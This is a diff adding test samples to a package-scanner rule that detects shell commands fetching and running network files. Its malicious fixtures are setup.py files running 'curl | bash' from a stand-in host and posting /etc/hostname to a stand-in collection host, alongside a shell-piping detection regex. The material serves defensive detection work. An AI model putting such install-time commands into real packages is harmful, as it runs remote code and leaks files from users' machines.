@@ -9,6 +9,7 @@ from wheelmark.scan.facts import Act, Call, Facts
 from wheelmark.scan.report import Context, Severity, Tactic
 from wheelmark.scan.rule import Evidence, Rule
 from wheelmark.scan.rules._common import EXECUTABLE_NAME, SHELL_DOWNLOAD, URL, graded, shown
+from wheelmark.scan.samples import Sample, Samples
 
 _RUNS_IT = re.compile(
     r"(?i)(\|\s*(sudo\s+)?(ba|z|da)?sh\b|\|\s*python|\biex\b|invoke-expression|start-process|&&?\s*(start|chmod|\./|bash|sh|python)|;\s*(start|chmod|\./|bash|sh|python)|"
@@ -47,4 +48,38 @@ RULE = Rule(
     message="A shell command fetches a file from the network, and runs it or leaves it to be run.",
     reference="https://attack.mitre.org/techniques/T1059/",
     check=check,
+    samples=Samples(
+        malicious=(
+            Sample.installed("""
+                import os
+                from setuptools import setup
+
+                os.system("curl -s https://get.example.invalid/install | bash")
+                setup(name="widget", version="1")
+            """),
+            Sample.installed("""
+                import os
+                from setuptools import setup
+
+                os.system("curl -F file=@/etc/hostname collect.example.invalid")
+                setup(name="widget", version="1")
+            """),
+        ),
+        benign=(
+            Sample.sdist(
+                {
+                    "setup.py": """
+                        import subprocess
+                        from setuptools import setup
+
+                        version = subprocess.check_output(["git", "describe", "--tags"], text=True).strip()
+                        setup(name="widget", version=version)
+                    """,
+                    "widget/__init__.py": """
+                        HELP = "install the tool with: curl https://get.example.invalid/install | bash"
+                    """,
+                }
+            ),
+        ),
+    ),
 )
